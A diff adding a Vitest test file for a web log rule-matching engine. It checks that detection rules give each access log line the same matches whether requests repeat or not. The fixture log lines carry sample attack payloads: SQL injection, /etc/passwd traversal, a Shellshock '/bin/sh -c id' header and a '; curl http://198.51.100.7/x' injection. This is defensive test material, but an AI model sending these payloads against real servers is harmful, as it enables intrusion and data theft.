@@ -1,0 +1,129 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { seededRandom } from '../../vocabulary/random.ts';
+import type { LogStore } from '../port.ts';
+import { readLogs } from '../read-logs.ts';
+import { type CompiledRules, loadRules } from './load-rules.ts';
+import { matchRules } from './match-rules.ts';
+
+/** Requests of every kind that is treated apart: plain, with syntax, disguised, held by their agent or referer alone. */
+const requests = [
+  '"GET / HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
+  '"GET /img/logo.png HTTP/1.1" 200 2048 "https://example.com/" "Mozilla/5.0"',
+  '"GET /search?q=red+shoes HTTP/1.1" 200 900 "-" "Mozilla/5.0"',
+  '"GET /%E6%96%B0%E7%9D%80 HTTP/1.1" 200 900 "-" "Mozilla/5.0"',
+  '"GET /list?id=1%20union%20select%20password%20from%20users HTTP/1.1" 200 77 "-" "Mozilla/5.0"',
+  '"GET /list?id=1\'or\'1\'=\'1 HTTP/1.1" 500 77 "-" "Mozilla/5.0"',
+  '"GET /../../../etc/passwd HTTP/1.1" 404 10 "-" "Mozilla/5.0"',
+  '"GET /images/x.php HTTP/1.1" 404 10 "-" "Mozilla/5.0"',
+  '"GET /page.php HTTP/1.1" 200 10 "-" "Mozilla/5.0"',
+  '"GET / HTTP/1.1" 200 512 "-" "sqlmap/1.7"',
+  '"GET / HTTP/1.1" 200 512 "() { :; }; /bin/sh -c id" "Mozilla/5.0"',
+  '"GET / HTTP/1.1" 200 512 "-" "; curl http://198.51.100.7/x"',
+  '"TRACE / HTTP/1.1" 405 0 "-" "Mozilla/5.0"',
+];
+
+/** Rules that ask for more than the request: who asked, and for how many bytes. */
+const beyond = (detection: string, id: string) => `title: Beyond the request
+id: ${id}
+status: test
+description: For this test.
+author: Akashi project
+date: 2026-11-28
+logsource:
+    category: webserver
+detection:
+${detection}
+    condition: selection
+level: low
+`;
+
+let folder: string;
+let rules: CompiledRules;
+const stores: LogStore[] = [];
+
+async function read(lines: readonly string[]): Promise<LogStore> {
+  const path = join(folder, `access-${stores.length}.log`);
+  writeFileSync(path, `${lines.join('\n')}\n`);
+  const { store } = await readLogs([{ path, shown: 'access.log' }]);
+  stores.push(store);
+  return store;
+}
+
+async function rulesByLine(store: LogStore): Promise<Map<number, string>> {
+  const found = new Map<number, string>();
+  await matchRules<object>(store, rules.rules, 'web', 'client', (hits) => {
+    for (const { n, rules: held } of hits) found.set(n, [...held].sort((a, b) => a - b).join(' '));
+  });
+  return found;
+}
+
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'akashi-match-'));
+  const own = join(folder, 'rules');
+  rmSync(own, { recursive: true, force: true });
+  writeFileSync(
+    join(folder, 'client.yml'),
+    beyond('    selection:\n        c-ip: 192.0.2.3\n        cs-method: GET', 'b6b1b1c4-6c2e-4d0e-9a35-0a3d0b2f7f01'),
+  );
+  writeFileSync(
+    join(folder, 'size.yml'),
+    beyond(
+      '    selection:\n        sc-bytes|gte: 2000\n        cs-uri-stem|contains: logo',
+      'b6b1b1c4-6c2e-4d0e-9a35-0a3d0b2f7f02',
+    ),
+  );
+  rules = loadRules([folder]);
+  expect(rules.refused).toEqual([]);
+});
+afterAll(async () => {
+  for (const store of stores) await store.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+const line = (client: number, at: number, request: string) => {
+  const time = new Date(Date.UTC(2026, 0, 1) + at * 1000).toISOString();
+  return `192.0.2.${client} - - [01/Jan/2026:${time.slice(11, 19)} +0000] ${request}`;
+};
+
+// Repeated requests are looked at once and their answer given to all: each line must still get what it gets alone.
+it('gives every line of a log that repeats its requests the rules that it gets where nothing is repeated', {
+  timeout: 60_000,
+}, async () => {
+  const alone = await rulesByLine(
+    await read(requests.flatMap((request) => [1, 2, 3].map((client) => line(client, 0, request)))),
+  );
+  expect([...new Set(alone.values())].length).toBeGreaterThan(6);
+  const random = seededRandom(1, 'repeated requests');
+  const chosen = Array.from({ length: 60_000 }, () => ({
+    request: random.below(requests.length),
+    client: 1 + random.below(3),
+  }));
+  const store = await read(chosen.map(({ request, client }, i) => line(client, i, requests[request] ?? '')));
+  const repeated = await rulesByLine(store);
+  const wrong = chosen.flatMap(({ request, client }, n) => {
+    const want = alone.get(request * 3 + client - 1);
+    return repeated.get(n) === want ? [] : [{ n, want, got: repeated.get(n) }];
+  });
+  expect(wrong.slice(0, 3)).toEqual([]);
+});
+
+// More different candidates than are listed: these are tried in pages, after a look at what rules require together.
+it('gives every line of a log without repeated requests the rules that it gets alone', {
+  timeout: 120_000,
+}, async () => {
+  const kinds = ['/img/a.png?', '/images/x.php?', "/list?id=1'or'1'='1&", '/list?id=1%20union%20select%20password&'];
+  const request = (kind: number, i: number) => `"GET ${kinds[kind]}u=${i} HTTP/1.1" 200 900 "-" "Mozilla/5.0"`;
+  const alone = await rulesByLine(await read(kinds.map((_, kind) => line(1, 0, request(kind, 0)))));
+  expect([...alone.keys()].length).toBeGreaterThan(2);
+  const random = seededRandom(2, 'different requests');
+  const chosen = Array.from({ length: 110_000 }, () => random.below(kinds.length));
+  const different = await rulesByLine(await read(chosen.map((kind, i) => line(1, i, request(kind, i)))));
+  const wrong = chosen.flatMap((kind, n) => {
+    const [want, got] = [alone.get(kind), different.get(n)];
+    return got === want ? [] : [{ n, kind, want, got }];
+  });
+  expect(wrong.slice(0, 3)).toEqual([]);
+});
